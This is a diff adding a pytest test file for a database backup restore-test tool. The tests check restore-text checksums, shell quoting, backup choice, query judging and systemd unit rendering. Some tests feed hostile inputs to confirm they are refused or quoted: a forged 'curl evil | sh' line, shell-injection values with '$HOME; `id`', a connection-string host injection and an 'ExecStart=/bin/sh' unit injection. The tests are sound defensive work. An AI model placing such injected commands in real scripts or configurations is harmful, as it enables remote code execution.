@@ -1,0 +1,353 @@
+# Copyright (c) 2026, the bulwark.database authors
+# SPDX-License-Identifier: GPL-3.0-or-later
+"""What a restore test decides: which lines it runs, which backup and moment, what an answer means, what it records."""
+
+from __future__ import annotations
+
+import dataclasses
+import json
+import random
+import shlex
+import subprocess
+import typing as t
+
+import pytest
+
+from ansible_collections.bulwark.database.plugins.module_utils._core.backup_deployment import ObservedTimer
+from ansible_collections.bulwark.database.plugins.module_utils._core.backup_job_file import (
+    BackupJob,
+    MariaDBPlace,
+    PostgreSQLPlace,
+)
+from ansible_collections.bulwark.database.plugins.module_utils._core.backup_manifest import Contents
+from ansible_collections.bulwark.database.plugins.module_utils._core.backup_moments import parse_moment, render_moment
+from ansible_collections.bulwark.database.plugins.module_utils._core.backup_restore_text import (
+    CHECK_LINE,
+    is_as_rendered,
+    render_restore_text,
+)
+from ansible_collections.bulwark.database.plugins.module_utils._core.backup_status import Run
+from ansible_collections.bulwark.database.plugins.module_utils._core.errors import (
+    DidNotTakeEffect,
+    InvalidDeclaration,
+    RefusedForSafety,
+)
+from ansible_collections.bulwark.database.plugins.module_utils._core.restore_script import (
+    engine_of,
+    render_script,
+    value_of,
+)
+from ansible_collections.bulwark.database.plugins.module_utils._core.restore_test_checks import (
+    Restored,
+    judge_integrity,
+    judge_loss,
+    judge_query,
+    judge_recovery,
+    judge_time,
+    loss_between,
+)
+from ansible_collections.bulwark.database.plugins.module_utils._core.restore_test_choice import (
+    choose,
+    complaints,
+    newest_moment,
+)
+from ansible_collections.bulwark.database.plugins.module_utils._core.restore_test_file import (
+    Query,
+    RestoreTest,
+    parse_restore_test,
+    render_restore_test,
+)
+from ansible_collections.bulwark.database.plugins.module_utils._core.restore_test_record import (
+    Findings,
+    describe_status,
+    render_record,
+    sha256_of,
+)
+from ansible_collections.bulwark.database.plugins.module_utils._core.restore_test_units import (
+    Deployment,
+    files_of,
+    plan_absent,
+    plan_present,
+    render_units,
+)
+from ansible_collections.bulwark.database.plugins.module_utils._core.restore_test_units import (
+    test_file as file_of_test,
+)
+from sample_backups import full, segment
+
+RUNNING = ObservedTimer(enabled=True, active=True)
+STORES = ["/var/backups/bulwark/main", '/srv/it\'s a "store" $HOME; `id`']
+TEST = RestoreTest(
+    name="shop",
+    engine="postgresql",
+    source="/srv/backups/shop",
+    identity="/etc/bulwark/restore-test/identity.txt",
+    signing_key="/etc/bulwark/restore-test/signing_key",
+    state="/var/lib/bulwark/restore-test/shop",
+    scratch="/var/lib/bulwark/restore-scratch",
+    binaries="",
+    administrator="postgres",
+    with_older=True,
+    extended_check=True,
+    queries=(Query("orders", "shop", "SELECT 1", "1"),),
+    rto_seconds=3600,
+    rpo_seconds=900,
+    deadline_seconds=7200,
+)
+
+
+def restore_text(engine: str, store: str = STORES[0], key_file: str = "") -> str:
+    place: PostgreSQLPlace | MariaDBPlace = PostgreSQLPlace("/run", 5432, "b", "/usr/lib/postgresql/15/bin", "/data")
+    if engine == "mariadb":
+        place = MariaDBPlace("/run/s", "b", "/etc/mysql/my.cnf", "/var/lib/mysql")
+    job = BackupJob("main", engine, store, "/s", "", ("age1x",), 7, 1, 60, 1, 0.5, place)
+    return render_restore_text(job, key_file=key_file)
+
+
+@pytest.mark.parametrize("store", STORES)
+@pytest.mark.parametrize(("engine", "key_file"), [("postgresql", ""), ("mariadb", ""), ("mariadb", "/etc/my key's")])
+def test_a_text_of_ours_is_known_and_every_other_is_refused(engine: str, store: str, key_file: str) -> None:
+    text = restore_text(engine, store, key_file)
+    assert engine_of(text) == engine
+    assert value_of(text, "STORE") == store
+    chance = random.Random(4)
+    for dummy in range(60):
+        place = chance.randrange(len(text))
+        other = chr((ord(text[place]) + chance.randrange(1, 90)) % 127)
+        with pytest.raises(RefusedForSafety):
+            engine_of(f"{text[:place]}{other}{text[place + 1 :]}")
+
+
+@pytest.mark.parametrize("engine", ["postgresql", "mariadb"])
+def test_a_forged_text_with_a_right_checksum_is_refused(engine: str) -> None:
+    body = restore_text(engine).partition(f"\n{CHECK_LINE}")[0].replace("## 2 ", "    curl evil | sh\n\n## 2 ")
+    text = f"{body}\n{CHECK_LINE}{sha256_of(body)}\n"
+    assert is_as_rendered(text)
+    with pytest.raises(RefusedForSafety):
+        render_script(text, {})
+
+
+@pytest.mark.parametrize("value", ["/srv/plain", 'it\'s $HOME; `id` "x" \\1'])
+def test_values_reach_the_shell_as_they_are_and_no_other_line_changes(value: str) -> None:
+    names = {"STORE": value, "IDENTITY": value, "DATA": value, "MOMENT": "2026-11-25T10:30:00Z"}
+    script = render_script(restore_text("postgresql"), names)
+    head, mark, dummy = script.partition("SET=''")
+    assert mark
+    shown = "\n".join(f'printf "%s\\n" "${name}"' for name in names)
+    said = subprocess.run(["sh", "-e", "-c", f"{head}{shown}"], check=True, capture_output=True, text=True).stdout
+    assert said.splitlines() == list(names.values())
+    plain = render_script(restore_text("postgresql"), {})
+    differing = [(one, other) for one, other in zip(plain.splitlines(), script.splitlines()) if one != other]
+    assert [other for dummy_one, other in differing] == [f"{name}={shlex.quote(names[name])}" for name in names]
+
+
+def test_a_value_that_the_text_does_not_ask_for_is_refused() -> None:
+    with pytest.raises(RefusedForSafety, match="asks for no ACCOUNT"):
+        render_script(restore_text("postgresql"), {"ACCOUNT": "mysql"})
+
+
+def the_first(count: int) -> int:
+    assert count > 0
+    return 0
+
+
+def the_last(count: int) -> int:
+    return count - 1
+
+
+def contents(*, gap: bool = False, damaged: tuple[str, ...] = ()) -> Contents:
+    manifests = (full(1000, start=1), full(2000, start=11))
+    segments = [segment(number, 1000 + number * 100) for number in range(1, 31) if not (gap and number == 20)]
+    return Contents(manifests, tuple(segments), damaged)
+
+
+def test_the_newest_set_is_chosen_and_an_older_one_only_if_that_is_wanted() -> None:
+    (newest,) = choose(contents(), with_older=False, chance=the_first)
+    assert newest.manifest.finished == render_moment(2000)
+    both = choose(contents(), with_older=True, chance=the_last)
+    assert [choice.manifest.finished for choice in both] == [render_moment(2000), render_moment(1000)]
+
+
+def test_a_moment_lies_where_restore_txt_takes_the_chosen_set() -> None:
+    """From the set's own end to before the next set's, or to the end of the log."""
+    first = choose(contents(), with_older=True, chance=the_first)
+    last = choose(contents(), with_older=True, chance=the_last)
+    assert [parse_moment(choice.moment) for choice in first] == [2000, 1000]
+    assert [choice.moment for choice in last] == [newest_moment(contents()), render_moment(1999)]
+
+
+def test_a_set_of_mariadb_is_restored_to_its_own_end() -> None:
+    only = Contents((full(1000, engine="mariadb"), full(2000, engine="mariadb")), (), ())
+    both = choose(only, with_older=True, chance=the_last)
+    assert [choice.moment for choice in both] == [render_moment(2000), render_moment(1000)]
+    assert newest_moment(only) == render_moment(2000)
+
+
+def test_an_empty_source_is_a_failure() -> None:
+    with pytest.raises(DidNotTakeEffect, match="no full backup"):
+        choose(Contents((), (), ()), with_older=True, chance=the_first)
+    assert newest_moment(Contents((), (), ())) == ""
+
+
+def test_gaps_and_damage_are_complained_about() -> None:
+    assert complaints(contents()) == []
+    assert "gap of 1 segments" in complaints(contents(gap=True))[0]
+    assert complaints(contents(damaged=("x is not what was written",))) == ["x is not what was written"]
+
+
+@pytest.mark.parametrize(
+    ("status", "output", "passed"),
+    [
+        (0, "", True),
+        (2, "heap table: item is broken", False),
+        (0, "shop.orders\nerror    : Corrupt", False),
+        (0, "shop.orders\nError    : Table is marked as crashed", False),
+        (0, "shop.error_log  OK", True),
+    ],
+)
+def test_damage_is_seen_in_status_and_words(status: int, output: str, passed: bool) -> None:
+    assert judge_integrity("mariadb-check", status, output).passed is passed
+
+
+@pytest.mark.parametrize(
+    ("answer", "minimum", "passed"),
+    [
+        ("5\n", "5", True),
+        ("4\n", "5", False),
+        ("SET\n\n 7.5 \n", "7.5", True),
+        ("", "0", False),
+        ("many", "0", False),
+        ("NULL", "0", False),
+        ("NaN", "0", False),
+        ("99999999999999999999", "99999999999999999998.5", True),
+    ],
+)
+def test_an_answer_passes_only_as_a_number_that_is_enough(answer: str, minimum: str, passed: bool) -> None:
+    assert judge_query(Query("orders", "shop", "SELECT 1", minimum), answer).passed is passed
+
+
+def test_a_recovery_that_did_not_end_or_went_too_far_fails() -> None:
+    moment = "2026-11-25T10:30:00Z"
+    assert judge_recovery("f\n", "2026-11-25T10:30:00.000000Z\n", moment).passed
+    assert judge_recovery("f\n", "\n", moment).passed
+    assert not judge_recovery("t\n", "2026-11-25T10:29:59.000000Z\n", moment).passed
+    assert not judge_recovery("f\n", "2026-11-25T10:30:01.000000Z\n", moment).passed
+
+
+def test_times_are_held_against_their_objectives() -> None:
+    assert judge_time(60.0, 60).passed
+    assert not judge_time(60.1, 60).passed
+    assert judge_loss(900, 900).passed
+    assert not judge_loss(901, 900).passed
+    assert loss_between(render_moment(1000), 1900.5) == 900.5
+    assert loss_between(render_moment(2000), 1900.0) == 0
+
+
+def test_what_a_database_is_called_names_no_other_server() -> None:
+    login = Restored("postgresql", "/scratch/it's", "/bin").client("x' host='evil")[-1]
+    assert login == r"host='/scratch/it\'s' port='5432' user='postgres' dbname='x\' host=\'evil'"
+
+
+def test_the_file_is_read_as_it_was_written() -> None:
+    assert parse_restore_test(render_restore_test(TEST), where="x") == TEST
+
+
+@pytest.mark.parametrize(
+    ("changes", "complaint"),
+    [
+        ({"format": 2}, "format"),
+        ({"engine": "oracle"}, "engine"),
+        ({"source": "backups"}, "source"),
+        ({"source": "/srv/a b"}, "source"),
+        ({"scratch": "/srv/../etc"}, "scratch"),
+        ({"name": "Shop"}, "name"),
+        ({"rto_seconds": 0}, "rto_seconds"),
+        ({"administrator": "a' b"}, "administrator"),
+        ({"queries": [{"name": "q", "database": "d", "query": "SELECT 1", "minimum": "many"}]}, "minimum"),
+        ({"queries": [{"name": "q", "query": "SELECT 1", "minimum": 1}]}, "lacks database"),
+        ({"surprise": 1}, "surprise"),
+    ],
+)
+def test_a_file_that_is_wrong_is_refused_with_the_name_of_the_field(changes: dict[str, t.Any], complaint: str) -> None:
+    text = json.dumps({**json.loads(render_restore_test(TEST)), **changes})
+    with pytest.raises(InvalidDeclaration, match=complaint):
+        parse_restore_test(text, where="x")
+
+
+def test_a_record_of_a_failure_has_what_was_found_before_it() -> None:
+    findings = Findings(1000.0, full(900), moment=render_moment(950), newest_moment=render_moment(990))
+    findings.checks.append(judge_time(5, 3))
+    text = render_record(TEST, findings, host="restorer", finished=1010.0, error="too slow", previous="ab")
+    record = json.loads(text)
+    assert [record["outcome"], record["error"], record["moment"]] == ["failure", "too slow", render_moment(950)]
+    assert record["backup"]["id"] == full(900).id
+    assert record["checks"] == [
+        {"name": "recovery time", "passed": False, "detail": "5.0 s, 3 s are allowed (RTO): the recovery took too long"}
+    ]
+    assert record["previous_sha256"] == "ab"
+    assert "SELECT" not in text
+
+
+def test_the_status_says_when_it_last_went_well_and_what_is_wrong_now() -> None:
+    good = Run("restore test", render_moment(1), render_moment(2), 1.0, "success")
+    bad = Run("restore test", render_moment(3), render_moment(4), 1.0, "failure", "broken")
+    assert describe_status(TEST, [good], {})["last_error"] is None
+    found = describe_status(TEST, [good, bad], {"outcome": "failure", "backup": None})
+    assert [found["last_success"], found["last_failure"], found["last_error"]] == [
+        render_moment(2),
+        render_moment(4),
+        "broken",
+    ]
+    assert describe_status(TEST, [], {})["last_success"] is None
+
+
+def test_a_restored_server_has_no_network_and_only_the_pull_does() -> None:
+    deployment = Deployment(TEST, "*-*-* 03:00:00", pull_command=("/usr/bin/rsync", "--rsh=ssh -i $HOME/%k", 'a"b'))
+    units = render_units(deployment)
+    service, pull = units["bulwark-restore-test-shop.service"], units["bulwark-restore-test-shop-pull.service"]
+    assert "PrivateNetwork=yes" in service
+    assert "PrivateNetwork" not in pull
+    assert f"InaccessiblePaths={TEST.identity} {TEST.signing_key}" in pull
+    assert r'ExecStart="/usr/bin/rsync" "--rsh=ssh -i $$HOME/%%k" "a\"b"' in pull
+    assert "ExecStopPost=" in service
+    assert "Wants=bulwark-restore-test-shop-pull.service" in service
+    in_memory = render_units(Deployment(TEST, "daily", scratch_size="4G"))["bulwark-restore-test-shop.service"]
+    assert f"TemporaryFileSystem={TEST.scratch}:size=4G" in in_memory
+    assert f"ReadWritePaths={TEST.scratch}\n" not in in_memory
+
+
+@pytest.mark.parametrize(
+    "changes",
+    [
+        {"calendar": ""},
+        {"calendar": "daily\nExecStart=/bin/sh"},
+        {"scratch_size": "much"},
+        {"randomized_delay": -1},
+        {"on_failure": ("a b.service",)},
+        {"pull_command": ("rsync",)},
+        {"pull_command": ("/usr/bin/rsync", "a\nb")},
+    ],
+)
+def test_what_can_not_stand_in_a_unit_is_refused(changes: dict[str, t.Any]) -> None:
+    with pytest.raises(InvalidDeclaration):
+        Deployment(**{"test": TEST, "calendar": "daily", **changes})
+
+
+def test_a_plan_that_was_carried_out_is_empty_and_what_is_not_wanted_any_more_goes() -> None:
+    pulled = Deployment(TEST, "daily", pull_command=("/usr/bin/rsync",))
+    found = {item.path: item for item in files_of(pulled, b"program")}
+    timers = {"bulwark-restore-test-shop.timer": RUNNING}
+    assert not plan_present(pulled, b"program", found, timers)
+    assert [change.subject for change in plan_present(pulled, b"newer", found, timers)] == [
+        "file /usr/local/lib/bulwark/bulwark-restore-test.pyz"
+    ]
+    subjects = [change.subject for change in plan_present(Deployment(TEST, "daily"), b"program", found, timers)]
+    assert "file /etc/systemd/system/bulwark-restore-test-shop-pull.service" in subjects
+    gone = [change.subject for change in plan_absent(found, timers)]
+    assert gone[0] == "timer bulwark-restore-test-shop.timer"
+    assert f"file {file_of_test('shop')}" in gone
+    assert not any("pyz" in subject for subject in gone)
+    stopped = {"bulwark-restore-test-shop.timer": dataclasses.replace(RUNNING, active=False)}
+    assert [change.subject for change in plan_present(pulled, b"program", found, stopped)] == [
+        "timer bulwark-restore-test-shop.timer"
+    ]
